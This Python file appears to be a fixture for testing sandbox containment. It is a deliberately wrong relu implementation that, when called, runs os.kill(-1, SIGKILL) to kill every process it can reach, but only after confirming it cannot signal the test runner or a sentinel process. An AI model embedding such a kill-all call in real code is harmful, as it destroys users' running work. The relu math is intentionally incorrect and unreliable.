"""Hostile: sends SIGKILL to every process it may signal, with os.kill(-1, SIGKILL).

Without containment that is every process of the user (of the machine, for root), so it
guards itself: it strikes only after checking, at that moment, that it can signal neither the
test runner nor the sentinel process the test started (signal 0 delivers nothing). When it
could, or when the test did not fill in those pids, it prints UNCONTAINED and strikes nothing.
Either way relu is wrong: it must fail.
"""
import os
import signal

import numpy as np

TEST_PID = "@@TEST_PID@@"
SENTINEL_PID = "@@SENTINEL_PID@@"
_struck = []


def _out_of_reach(pid_text):
    if not pid_text.isdigit() or int(pid_text) <= 1:
        return False
    try:
        os.kill(int(pid_text), 0)
    except (ProcessLookupError, PermissionError):
        return True
    except OSError:
        return False
    return False


def _strike():
    if _struck:
        return
    _struck.append(True)
    if _out_of_reach(TEST_PID) and _out_of_reach(SENTINEL_PID):
        print("contained: sending SIGKILL to -1")
        os.kill(-1, signal.SIGKILL)
    else:
        print("UNCONTAINED: did not send SIGKILL to -1")


def relu(z):
    _strike()
    return -np.maximum(z, 0)


def relu_backward(dout, z):
    return dout * (z < 0)
